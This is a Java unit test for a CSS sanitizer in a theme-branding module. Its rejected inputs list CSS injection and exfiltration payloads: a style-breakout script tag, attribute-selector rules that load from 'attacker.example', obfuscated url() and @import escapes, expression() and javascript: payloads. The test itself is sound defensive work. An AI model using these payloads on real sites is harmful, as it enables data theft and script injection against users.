package io.cloakpool.themes.branding;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class ExtraCssTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "#kc-header { letter-spacing: 1px; }",
                "@media (min-width: 40rem) { body > main:hover::before { content: \"→\"; } }",
                ".logo { background: url(/resources/logo.png); }",
                ".logo { background: url( \"data:image/png;base64,AAAA\" ); }",
                ".kc-logo-image-text { color: var(--cloakpool-link) }",
                "body {\n\tmargin: 0;\r\n}"
            })
    void usual_rules_are_taken(String css) {
        assertThat(ExtraCss.refusal(css)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "</style><script>alert(1)</script>",
                "@import \"/x.css\";",
                "@ImPoRt url(/x.css);",
                "@\\69mport \"/x.css\";",
                "@charset \"utf-7\";",
                "input[value^=a] { background: url(https://attacker.example/a); }",
                "input { background: URL('//attacker.example/a'); }",
                "input { background: url(http://attacker.example); }",
                "input { background: ur\\6c(https://attacker.example); }",
                "input { background: url(/\\attacker.example); }",
                "input { background: url(data:text/html;base64,AAAA); }",
                "input { background: url(x.png); }",
                "input { background: -webkit-image-set(\"https://attacker.example\" 1x); }",
                "input { background: image-set('https://attacker.example' 1x); }",
                "input { background: image('https://attacker.example'); }",
                "input { background: src('https://attacker.example'); }",
                "a { width: expression(alert(1)); }",
                "a { behavior: url(/x.htc); }",
                "a { -moz-binding: url(/x.xml); }",
                "a { background: url(javascript:alert(1)); }",
                "a { color: red\0; }"
            })
    void what_runs_or_loads_from_elsewhere_is_refused(String css) {
        assertThat(ExtraCss.refusal(css)).isPresent();
    }

    @Test
    void text_longer_than_64_kib_is_refused() {
        assertThat(ExtraCss.refusal("a".repeat(ExtraCss.LONGEST))).isEmpty();
        assertThat(ExtraCss.refusal("a".repeat(ExtraCss.LONGEST + 1))).isPresent();
    }
}
